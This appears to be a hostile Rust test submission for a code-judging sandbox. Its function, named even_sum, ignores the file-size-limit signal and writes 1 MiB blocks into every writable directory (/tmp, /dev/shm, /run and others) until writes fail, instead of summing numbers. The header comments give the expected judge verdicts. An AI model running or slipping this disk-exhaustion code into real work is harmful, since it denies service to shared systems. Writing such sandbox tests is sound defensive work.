// tries: every place that can be written to, to the last byte
// verdict: wrong_answer, runtime_error, memory_limit_exceeded
use std::fs::File;
use std::io::Write;

extern "C" {
    fn signal(number: i32, handler: usize) -> usize;
}

fn even_sum(numbers: Vec<i32>) -> i64 {
    // SIGXFSZ, ignored
    unsafe { signal(25, 1) };
    let block = vec![7u8; 1 << 20];
    for folder in [".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"] {
        for n in 0..20 {
            let Ok(mut file) = File::create(format!("{folder}/{n}")) else { break };
            while file.write_all(&block).is_ok() {}
        }
    }
    0
}
